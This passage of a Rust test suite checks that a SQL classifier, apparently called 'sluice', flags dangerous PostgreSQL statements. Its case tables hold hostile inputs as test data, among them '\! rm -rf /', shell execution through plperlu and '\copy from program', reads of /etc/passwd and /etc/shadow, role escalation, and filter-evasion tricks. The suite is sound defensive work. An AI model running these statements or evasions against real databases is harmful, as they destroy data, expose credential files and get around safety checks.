        "CREATE FUNCTION sh(text) RETURNS text LANGUAGE plpython3u AS $$ import os $$",
        "CREATE FUNCTION",
        &[Ddl, ProgramExecution],
    ),
    (
        "CREATE FUNCTION f() RETURNS int AS 'libevil', 'f' LANGUAGE C",
        "CREATE FUNCTION",
        &[Ddl, ProgramExecution],
    ),
    (
        "CREATE OR REPLACE FUNCTION x() RETURNS void LANGUAGE plperlu AS $$ system('id') $$",
        "CREATE FUNCTION",
        &[Ddl, ProgramExecution],
    ),
    ("\\! rm -rf /", "\\!", &[Opaque, ProgramExecution]),
    ("  \\!ls", "\\!ls", &[Opaque, ProgramExecution]),
    (
        "\\copy t from program 'id'",
        "\\copy",
        &[Opaque, ProgramExecution],
    ),
    ("\\o |cat", "\\o", &[Opaque, ProgramExecution]),
];

const OPAQUE: &[Case] = &[
    ("DO $$ BEGIN DROP TABLE t; END $$", "DO", &[Opaque]),
    ("do 'begin perform 1; end'", "DO", &[Opaque]),
    (
        "DO LANGUAGE plpgsql $x$ BEGIN EXECUTE 'DROP TABLE t'; END $x$",
        "DO",
        &[Opaque],
    ),
    ("EXECUTE stmt", "EXECUTE", &[Opaque]),
    ("EXECUTE stmt(1, 'a')", "EXECUTE", &[Opaque]),
    ("SELCT * FROM t", "UNKNOWN", &[Opaque]),
    ("DROP TABLE", "UNKNOWN", &[Opaque]),
    ("SELECT 'unterminated", "UNKNOWN", &[Opaque]),
    ("SELECT 1; DRP TABLE t", "UNKNOWN", &[Opaque]),
    ("\\d users", "\\d", &[Opaque]),
    (
        "SELECT dblink_exec('dbname=x', 'DROP TABLE t')",
        "SELECT",
        &[Opaque],
    ),
    (
        "SELECT * FROM dblink('dbname=x', 'DELETE FROM t RETURNING 1') AS r(i int)",
        "SELECT",
        &[Opaque],
    ),
    (
        "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')",
        "SELECT",
        &[Opaque],
    ),
    ("SELECT ext.dblink_exec('x', 'y')", "SELECT", &[Opaque]),
    ("DROP TABLE t\0", "UNKNOWN", &[Opaque]),
    ("ＤＲＯＰ TABLE t", "UNKNOWN", &[Opaque]),
    ("DROP ТABLE t", "UNKNOWN", &[Opaque]),
    ("SELECT 1 /* unterminated comment", "UNKNOWN", &[Opaque]),
];

const UNKNOWN_FUNCTIONS: &[Case] = &[
    ("SELECT my_func(1)", "SELECT", &[UnknownFunction]),
    ("SELECT public.lower('X')", "SELECT", &[UnknownFunction]),
    (
        "SELECT * FROM t WHERE audit.log_access(id)",
        "SELECT",
        &[UnknownFunction],
    ),
    ("SELECT * FROM app.get_report(2024)", "SELECT", &[UnknownFunction]),
    ("SELECT (SELECT my_writer()) AS x", "SELECT", &[UnknownFunction]),
    (
        "SELECT a FROM t ORDER BY side_effect(a)",
        "SELECT",
        &[UnknownFunction],
    ),
];

const EVASIONS: &[Case] = &[
    // Case and whitespace.
    ("dRoP tAbLe UsErS", "DROP TABLE", &[DropObject, Ddl]),
    ("DROP\n\tTABLE\n  users", "DROP TABLE", &[DropObject, Ddl]),
    ("DeLeTe FrOm users", "DELETE", &[Write, DeleteWithoutWhere]),
    // Comments everywhere, including nested block comments (PostgreSQL nests them).
    ("/* harmless */ DROP TABLE users", "DROP TABLE", &[DropObject, Ddl]),
    ("DROP/**/TABLE/**/users", "DROP TABLE", &[DropObject, Ddl]),
    ("-- just a select\nDROP TABLE users", "DROP TABLE", &[DropObject, Ddl]),
    ("/* outer /* inner */ still comment */ DELETE FROM t", "DELETE", &[Write, DeleteWithoutWhere]),
    ("SELECT 1 /* ; DROP TABLE t */", "SELECT", &[]),
    ("SELECT 1 -- ; DROP TABLE t", "SELECT", &[]),
    ("DELETE FROM t -- WHERE id = 1", "DELETE", &[Write, DeleteWithoutWhere]),
    ("DELETE FROM t /* WHERE id = 1 */", "DELETE", &[Write, DeleteWithoutWhere]),
    // Strings and dollar quotes that look like statements are data.
    ("SELECT 'DROP TABLE users'", "SELECT", &[]),
    ("SELECT $$DROP TABLE users$$", "SELECT", &[]),
    ("SELECT $tag$; DROP TABLE users; $tag$", "SELECT", &[]),
    ("SELECT E'\\'; DROP TABLE users; --'", "SELECT", &[]),
    ("INSERT INTO notes VALUES ('; DELETE FROM t')", "INSERT", &[Write]),
    // Quoted and unicode-escaped identifiers are read the way the server reads them.
    ("DROP TABLE \"users\"", "DROP TABLE", &[DropObject, Ddl]),
    ("DROP TABLE U&\"us\\0065rs\"", "DROP TABLE", &[DropObject, Ddl]),
    ("DROP TABLE U&\"us!0065rs\" UESCAPE '!'", "DROP TABLE", &[DropObject, Ddl]),
    ("SELECT * FROM \"DROP TABLE x\"", "SELECT", &[]),
    // Multi-statement strings: every statement counts.
    ("SELECT 1; DROP TABLE users", "SELECT; DROP TABLE", &[DropObject, Ddl]),
    ("SELECT 1;DROP TABLE users;", "SELECT; DROP TABLE", &[DropObject, Ddl]),
    ("SELECT 1;;; TRUNCATE t", "SELECT; TRUNCATE TABLE", &[Truncate]),
    ("BEGIN; DELETE FROM t; COMMIT", "BEGIN; DELETE; COMMIT", &[Write, DeleteWithoutWhere]),
    ("SET search_path = x; SET ROLE postgres", "SET; SET", &[PrivilegeChange]),
    // Writes hidden in reads.
    ("SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) s", "SELECT", &[Write]),
    ("SELECT (SELECT count(*) FROM (WITH x AS (UPDATE t SET a = 1 RETURNING 1) SELECT * FROM x) y)", "SELECT", &[Write]),
    ("WITH a AS (SELECT 1), b AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM a", "SELECT", &[Write]),
    ("SELECT nextval('s') FROM generate_series(1, 3)", "SELECT", &[Write]),
    ("SELECT PG_CATALOG.SETVAL('s', 1)", "SELECT", &[Write]),
    ("SELECT \"nextval\"('s')", "SELECT", &[Write]),
    ("SELECT * FROM t WHERE id = ANY(ARRAY[nextval('s')])", "SELECT", &[Write]),
    ("SELECT CASE WHEN true THEN pg_terminate_backend(1) END", "SELECT", &[Write]),
    ("SELECT coalesce(NULL, pg_read_file('/etc/passwd'))", "SELECT", &[ProgramExecution]),
    ("SELECT * FROM t WHERE EXISTS (SELECT lo_import('/etc/shadow'))", "SELECT", &[ProgramExecution]),
    ("SELECT count(*) FILTER (WHERE nextval('s') > 0) FROM t", "SELECT", &[Write]),
    ("SELECT sum(x) OVER (ORDER BY setval('s', 1)) FROM t", "SELECT", &[Write]),
    ("SELECT * FROM JSON_TABLE('[1]', '$[*]' COLUMNS (a int PATH '$')) jt, LATERAL (SELECT nextval('s')) n", "SELECT", &[Write]),
    ("VALUES (nextval('s'))", "SELECT", &[Write]),
    ("SELECT ARRAY(SELECT set_config('role', 'admin', true))", "SELECT", &[PrivilegeChange]),
    ("EXPLAIN ANALYZE SELECT nextval('s')", "SELECT", &[Write]),
    ("EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d", "SELECT", &[Write, DeleteWithoutWhere]),
    ("COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT", "COPY TO", &[ProgramExecution]),
    ("PREPARE p AS SELECT nextval('s')", "PREPARE", &[Write]),
    ("CREATE TABLE x AS SELECT pg_terminate_backend(1)", "CREATE TABLE AS", &[Ddl, Write]),
    ("DECLARE c CURSOR FOR SELECT nextval('s')", "DECLARE CURSOR", &[Write]),
    // Tautologies in disguise.
    ("DELETE FROM t WHERE 'A' ILIKE 'a'", "DELETE", &[Write, TautologicalWhere]),
    ("DELETE FROM t WHERE (1=1) IS TRUE", "DELETE", &[Write, TautologicalWhere]),
    ("DELETE FROM t WHERE NOT (NOT true)", "DELETE", &[Write, TautologicalWhere]),
    ("DELETE FROM t WHERE 10 >= 2 * 5", "DELETE", &[Write, TautologicalWhere]),
    ("DELETE FROM t WHERE -1 < 0", "DELETE", &[Write, TautologicalWhere]),
    ("DELETE FROM t WHERE 'on'::bool", "DELETE", &[Write, TautologicalWhere]),
    ("DELETE FROM t WHERE 1 = 1::int8", "DELETE", &[Write, TautologicalWhere]),
    ("DELETE FROM t WHERE '1'::int = 1", "DELETE", &[Write, TautologicalWhere]),
    ("DELETE FROM t WHERE id > 0 OR NOT false", "DELETE", &[Write, TautologicalWhere]),
    ("UPDATE t SET a = 1 WHERE 1 IS DISTINCT FROM 2", "UPDATE", &[Write, TautologicalWhere]),
];

fn check(cases: &[Case]) {
    let mut failures = Vec::new();
    for (sql, tags, categories) in cases {
        let classified = classify(sql);
        let got_tags: Vec<&str> = classified.items.iter().map(|item| item.tag.as_str()).collect();
        let got: BTreeSet<String> = classified
            .items
            .iter()
            .flat_map(|item| {
                item.findings
                    .iter()
                    .map(|finding| finding.category.as_str().to_owned())
            })
            .collect();
        let want: BTreeSet<String> = categories
            .iter()
            .map(|category| category.as_str().to_owned())
            .collect();
        if got_tags.join("; ") != *tags || got != want {
            failures.push(format!(
                "{sql:?}\n    want {tags} {want:?}\n    got  {} {got:?}",
                got_tags.join("; ")
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} case(s) failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn plain_reads_carry_no_findings() {
    check(READS);
}

#[test]
fn session_and_transaction_control_carries_no_findings() {
    check(SESSION);
}

#[test]
fn writes_are_flagged_as_writes() {
    check(WRITES);
}

#[test]
fn deletes_and_updates_without_a_real_where_are_flagged() {
    check(UNSAFE_DML);
}

#[test]
fn real_conditions_are_not_mistaken_for_tautologies() {
    check(SAFE_WHERE);
}

#[test]
fn schema_changes_are_flagged_by_what_they_do() {
    check(DDL);
}

#[test]
fn privilege_and_role_changes_are_flagged() {
    check(PRIVILEGES);
}

#[test]
fn program_execution_and_server_file_access_are_flagged() {
    check(PROGRAMS);
}

#[test]
fn statements_sluice_cannot_see_into_are_opaque() {
    check(OPAQUE);
}

#[test]
fn functions_not_known_to_be_read_only_are_flagged_as_unknown() {
    check(UNKNOWN_FUNCTIONS);
}

#[test]
fn evasions_are_classified_the_way_the_server_reads_them() {
    check(EVASIONS);
}

#[test]
fn the_corpus_has_hundreds_of_cases() {
    let total = [
        READS,
        SESSION,
        WRITES,
        UNSAFE_DML,
        SAFE_WHERE,
        DDL,
        PRIVILEGES,
        PROGRAMS,
        OPAQUE,
        UNKNOWN_FUNCTIONS,
        EVASIONS,
    ]
    .iter()
    .map(|cases| cases.len())
    .sum::<usize>();
    assert!(total >= 300, "only {total} cases");
}
